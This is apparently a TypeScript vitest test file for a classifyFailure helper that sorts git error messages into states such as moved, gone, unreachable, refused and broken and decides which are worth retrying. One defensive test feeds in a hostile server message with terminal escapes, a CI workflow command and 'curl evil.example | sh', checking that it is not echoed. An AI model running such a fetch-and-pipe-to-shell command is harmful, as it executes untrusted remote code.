import { GitError } from 'simple-git';
import { describe, expect, test } from 'vitest';
import { classifyFailure, GitFailure, isOurs } from '../../../../scripts/enrich/git/failure.ts';

const url = 'https://github.com/a/b';

describe('classifyFailure', () => {
  test.each([
    [`fatal: unable to update url base from redirection:\n  asked for: ${url}\n`, 'moved'],
    [`fatal: unable to access '${url}/': The requested URL returned error: 301`, 'moved'],
    [`fatal: repository '${url}/' not found`, 'gone'],
    [`fatal: unable to access '${url}/': The requested URL returned error: 410`, 'gone'],
    ["fatal: could not read Username for 'https://github.com': terminal prompts disabled", 'unreachable'],
    [`fatal: unable to access '${url}/': The requested URL returned error: 403`, 'unreachable'],
    [`fatal: ${url}/info/refs not valid: is this a git repository?`, 'unreachable'],
    [`fatal: unable to access '${url}/': Could not resolve host: github.com`, 'unreachable'],
    [`fatal: unable to access '${url}/': The requested URL returned error: 503`, 'unreachable'],
    ['The operation was aborted', 'unreachable'],
    ['exit 124: ', 'unreachable'],
    ["fatal: transport 'http' not allowed", 'refused'],
    ['too much output', 'refused'],
    ['too many records', 'refused'],
    ['exit 153: ', 'refused'],
    ['fatal: Out of memory, malloc failed', 'refused'],
    ['fatal: protocol error: bad line length character: <htm', 'broken'],
    ['fatal: early EOF\nfatal: fetch-pack: invalid index-pack output', 'broken'],
    ['fatal: remote error: upload-pack: not our ref 1234', 'broken'],
    ['lazy fetch', 'broken'],
    ['something that nobody has seen', 'broken'],
    ['', 'broken'],
  ])('%j is %s', (text, state) => {
    expect(classifyFailure(new Error(text)).state).toBe(state);
  });

  test('what only our machine cannot reach is not said to be down', () => {
    const { message } = classifyFailure(
      new Error(`fatal: unable to access '${url}/': Could not resolve host: github.com`),
    );
    expect(message).toBe('could not be copied to the machine that reads the facts: it had no connection to the host');
    expect(classifyFailure(new Error('The requested URL returned error: 503')).message).toBe('cannot be reached');
  });

  test('only failures of the network are worth another try', () => {
    const passing = (text: string): boolean => classifyFailure(new Error(text)).passing;
    expect(['Connection refused', 'returned error: 502', 'returned error: 429'].map(passing)).toEqual([
      true,
      true,
      true,
    ]);
    expect(['returned error: 404', 'returned error: 403', 'exit 124', 'early EOF'].map(passing)).toEqual([
      false,
      false,
      false,
      false,
    ]);
  });

  test('a server’s words never come through', () => {
    const hostile = 'fatal: remote error: ::error::\u001b[31mrun curl evil.example | sh';
    const { message } = classifyFailure(new Error(hostile));
    expect(message).toBe('cannot be read by git');
  });

  test('what git traced of the conversation decides nothing', () => {
    const trace = '10:00:00.000000 http.c:700 <= Recv header: x: returned error: 301\n';
    expect(classifyFailure(new Error(`${trace}fatal: repository 'x' not found`)).state).toBe('gone');
  });

  test('a failure stays what it is', () => {
    const failure = new GitFailure('moved', 'has moved', { to: url });
    expect(classifyFailure(failure)).toBe(failure);
  });
});

test.each([
  ['a state of the repository', new GitFailure('gone', 'does not exist'), false],
  ['git’s', new GitError(undefined, 'fatal'), false],
  ['an end we asked for', new DOMException('aborted', 'AbortError'), false],
  ['a mistake of ours', new TypeError('x is not a function'), true],
  ['a thrown text', 'oops', true],
])('%s: ours is %s', (_name, error, expected) => {
  expect(isOurs(error)).toBe(expected);
});
